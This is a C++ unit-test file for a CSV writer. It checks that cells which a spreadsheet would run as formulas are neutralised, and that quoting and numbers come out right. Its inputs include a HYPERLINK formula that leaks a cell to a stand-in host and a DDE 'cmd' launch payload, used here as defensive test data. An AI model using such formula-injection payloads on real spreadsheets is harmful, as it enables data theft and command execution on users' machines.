#include <gtest/gtest.h>

#include <cstdint>
#include <limits>
#include <sstream>

#include "jaring/csv/reader.hpp"
#include "jaring/csv/writer.hpp"

namespace jaring::csv {
namespace {

TEST(Writer, TextThatASpreadsheetWouldRunIsNeutralised) {
  EXPECT_EQ(text_cell("=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"),
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klik\"\")\"");
  EXPECT_EQ(text_cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(text_cell("-2+3"), "'-2+3");
  EXPECT_EQ(text_cell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(text_cell("\t=1"), "'\t=1");
  EXPECT_EQ(text_cell("\r=1"), "\"'\r=1\"");
  // Only the first character counts: ordinary text stays as it is.
  EXPECT_EQ(text_cell("Budi Santoso"), "Budi Santoso");
  EXPECT_EQ(text_cell("a=b"), "a=b");
  EXPECT_EQ(text_cell("31.75.06.1005.002"), "31.75.06.1005.002");
  EXPECT_EQ(text_cell(""), "");
}

TEST(Writer, QuotesWhatRfc4180Needs) {
  EXPECT_EQ(text_cell("Santoso, Budi"), "\"Santoso, Budi\"");
  EXPECT_EQ(text_cell("Ani \"Nana\""), "\"Ani \"\"Nana\"\"\"");
  EXPECT_EQ(text_cell("two\nlines"), "\"two\nlines\"");
}

TEST(Writer, NumbersStayNumbersSignIncluded) {
  Row row;
  row.add(std::int64_t{-16800}).add(42).add(std::numeric_limits<std::int64_t>::min()).add(std::size_t{7});
  EXPECT_EQ(row.line(), "-16800,42,-9223372036854775808,7\n");
  // The same text from a text field is neutralised.
  EXPECT_EQ(Row().add("-16800").add(std::string("+62812")).line(), "'-16800,'+62812\n");
}

TEST(Writer, AHeaderAndRowsReadBackThroughTheReader) {
  std::ostringstream out;
  out << Row{"line", "reason", "name"}.line();
  out << Row().add(3).add("name: must be letters").add("=HYPERLINK(\"http://x\",\"a,b\")").line();
  out << Row().add(4).add("").add("Ani \"Nana\"\nLine").line();
  std::istringstream in(out.str());
  Reader reader(in);
  Record r;
  ASSERT_TRUE(reader.next(r));
  EXPECT_EQ(r.fields, (std::vector<std::string>{"line", "reason", "name"}));
  ASSERT_TRUE(reader.next(r));
  EXPECT_EQ(r.fields,
            (std::vector<std::string>{"3", "name: must be letters", "'=HYPERLINK(\"http://x\",\"a,b\")"}));
  ASSERT_TRUE(reader.next(r));
  EXPECT_EQ(r.error, "");
  EXPECT_EQ(r.fields, (std::vector<std::string>{"4", "", "Ani \"Nana\"\nLine"}));
  EXPECT_FALSE(reader.next(r));
}

}  // namespace
}  // namespace jaring::csv
